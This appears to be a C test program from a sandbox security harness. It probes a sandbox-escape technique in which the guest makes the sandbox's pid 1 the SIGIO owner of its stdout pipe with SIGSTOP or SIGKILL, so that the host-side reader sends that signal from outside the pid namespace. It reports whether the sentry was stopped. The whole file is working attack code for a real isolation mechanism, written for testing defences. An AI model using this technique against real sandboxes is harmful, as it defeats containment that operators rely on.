/* Signals to the sentry through SIGIO: the guest makes pid 1 the owner of its
 * stdout pipe (F_SETOWN) with SIGSTOP or SIGKILL as the signal (F_SETSIG),
 * fills the pipe, and waits for the host side to read it. The kernel then
 * sends the signal from the reader's context, outside the sandbox's pid
 * namespace, where init's immunity to SIGSTOP and SIGKILL does not hold; only
 * the check of the owner's ids against the sentry's stands in the way.
 *   sigio_stop   the sentry stopped afterwards is ESCAPED
 *   sigio_kill   the sentry killed ends the sandbox: no "done" line
 * Argument: the attempt. Stdout must be a pipe the host side reads to the
 * end. */
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

/* The State letter of pid 1's /proc status, or '?'. */
static char sentry_state(void)
{
    char line[256];
    char state = '?';
    FILE *f = fopen("/proc/1/status", "re");
    while (f != NULL && fgets(line, sizeof(line), f) != NULL)
        if (strncmp(line, "State:", 6) == 0)
            sscanf(line + 6, " %c", &state);
    if (f != NULL)
        fclose(f);
    return state;
}

int main(int argc, char **argv)
{
    attack_require_sandbox();
    const char *name = argc > 1 ? argv[1] : "(none)";
    int sig = strcmp(name, "sigio_kill") == 0 ? SIGKILL : SIGSTOP;
    if (fcntl(1, F_SETOWN, 1) < 0 || fcntl(1, F_SETSIG, sig) < 0 ||
        fcntl(1, F_SETFL, O_ASYNC | O_NONBLOCK) < 0) {
        attack_result(name, -1, errno);
        attack_done();
        return 0;
    }
    struct stat st;
    if (fstat(1, &st) < 0 || !S_ISFIFO(st.st_mode)) {
        attack_line(name, "inconclusive", "stdout is not a pipe");
        attack_done();
        return 0;
    }
    char buf[4096];
    memset(buf, 'x', sizeof(buf));
    for (int i = 0; i < 1024 && write(1, buf, sizeof(buf)) > 0; i++)
        ;
    /* Blocking again (still O_ASYNC): this write returns once the host has
     * read, and the reader sends SIGIO as it drains the pipe. */
    fcntl(1, F_SETFL, O_ASYNC);
    if (write(1, "\n", 1) != 1)
        return 2;
    usleep(200 * 1000);
    char state = sentry_state();
    if (state == 'T' || state == 't')
        attack_line(name, "ESCAPED", "the sentry is stopped (State %c)", state);
    else if (state == '?')
        attack_line(name, "inconclusive", "cannot read the sentry's state");
    else
        attack_line(name, "refused", "the sentry is in state %c", state);
    attack_done();
    return 0;
}
